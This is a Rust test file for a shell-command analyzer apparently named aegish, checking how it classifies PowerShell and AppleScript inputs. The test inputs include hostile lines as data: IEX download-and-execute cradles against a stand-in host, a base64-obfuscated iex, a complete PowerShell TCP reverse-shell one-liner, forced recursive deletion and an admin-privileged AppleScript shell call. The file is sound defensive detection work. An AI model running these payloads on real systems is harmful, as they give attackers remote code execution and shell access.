//! PowerShell and AppleScript.

use super::check;
use aegish_profiles::Lang;

#[test]
fn powershell_and_osascript() {
    check(
        Lang::Powershell,
        &[
            ("ls -la", &["argv ls|-la"]),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://h.example/x')",
                &["fetch http://h.example/x", "received"],
            ),
            ("iex (iwr http://h.example/x)", &["fetch http://h.example/x", "received"]),
            ("iwr http://h.example/x | iex", &["fetch http://h.example/x", "received"]),
            (
                "Invoke-WebRequest -Uri http://h.example/x -OutFile /tmp/x",
                &["fetch http://h.example/x -> /tmp/x"],
            ),
            ("\"DATA\" | Out-File /tmp/x", &["write /tmp/x <- DATA"]),
            ("Get-Content /etc/hosts", &["read /etc/hosts"]),
            ("Remove-Item -Recurse -Force /srv/x", &["tree /srv/x"]),
            ("Start-Process sh -ArgumentList '-i'", &["argv sh|-i"]),
            ("& '/bin/sh' -i", &["argv /bin/sh|-i"]),
            ("$c = 'i' + 'd'; iex $c", &["eval powershell id"]),
            ("[System.IO.File]::ReadAllText('/etc/hosts')", &["read /etc/hosts"]),
            (
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
                &["eval powershell id"],
            ),
            (
                "$c = New-Object System.Net.Sockets.TCPClient('h.example',99);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String )}",
                &["connect h.example 99", "received"],
            ),
            ("Write-Host 'iex'", &[]),
            ("# iex x", &[]),
            ("$PSVersionTable", &[]),
        ],
    );
    check(
        Lang::Osascript,
        &[
            ("do shell script \"id\"", &["shell id"]),
            ("do shell script \"id\" with administrator privileges", &["shell id"]),
            ("tell application \"Terminal\" to do script \"id\"", &["shell id"]),
            ("var a = Application.currentApplication(); a.doShellScript(\"id\")", &["shell id"]),
            ("display dialog \"do shell script\"", &[]),
            ("-- do shell script \"x\"", &[]),
        ],
    );
}
